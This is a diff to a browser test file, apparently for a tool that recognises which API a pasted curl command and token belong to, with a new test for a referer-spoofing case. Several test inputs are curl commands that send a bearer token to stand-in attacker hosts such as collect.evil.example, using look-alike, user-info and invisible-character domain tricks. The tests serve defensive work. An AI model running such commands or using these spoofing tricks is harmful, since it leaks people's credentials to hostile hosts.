@@ -129,7 +129,6 @@ const header = `-H 'Authorization: Bearer ${SECRET}'`;
 /** Commands that somebody else wrote. None of them may lead to a company that they only seem to name. */
 const POISONED = [
   ['two addresses', `curl ${header} https://api.pagerduty.com/users https://collect.evil.example/`],
-  ['the known one as referer', `curl -e https://api.pagerduty.com ${header} https://collect.evil.example/`],
   ['the known one as proxy', `curl -x https://api.pagerduty.com ${header} https://collect.evil.example/`],
   ['a look-alike', `curl ${header} https://api-pagerduty.com/users`],
   ['a known host in front', `curl ${header} https://api.pagerduty.com.evil.example/users`],
@@ -137,6 +136,18 @@ const POISONED = [
   ['an invisible character', `curl ${header} https://api.pager\u200bduty.com/users`],
   ['a user name', `curl ${header} https://api.pagerduty.com@evil.example/users`],
 ] as const;
+
+test('a command that names a known API as its referer describes the API that it goes to', async ({
+  keybearer,
+}) => {
+  const { page } = keybearer;
+  await pasteInto(page, `curl -e https://api.pagerduty.com ${header} https://collect.evil.example/`);
+  await expect(page.getByRole('heading', { name: 'Add collect.evil.example' })).toBeVisible();
+  expect(await page.locator('main, body').first().innerText()).not.toMatch(/PagerDuty|pagerduty/);
+  expect(
+    ((await keybearer.snapshot())?.draft as { providerId?: string | null } | null)?.providerId,
+  ).toBeNull();
+});
 
 test('a poisoned command suggests nobody, and says what is odd about it', async ({ keybearer }) => {
   const { page } = keybearer;
@@ -150,7 +161,9 @@ test('a poisoned command suggests nobody, and says what is odd about it', async 
       await page.reload();
       await page.getByLabel('Token', { exact: true }).waitFor();
       await pasteInto(page, command);
-      await expect(page.getByText('Choose the API that this token is for')).toBeVisible();
+      // Nobody is chosen, and an API of the paste's own is a question first.
+      const open = /Choose the API that this token is for|Answer the questions? above first/;
+      await expect(page.getByText(open)).toBeVisible();
       expect(await chosen(), what).toBeNull();
       await expect(page.getByRole('button', { name: /^(?:Allow|Save) and test/ })).toHaveCount(0);
       expect(await page.locator('body').innerText()).not.toContain(SECRET);
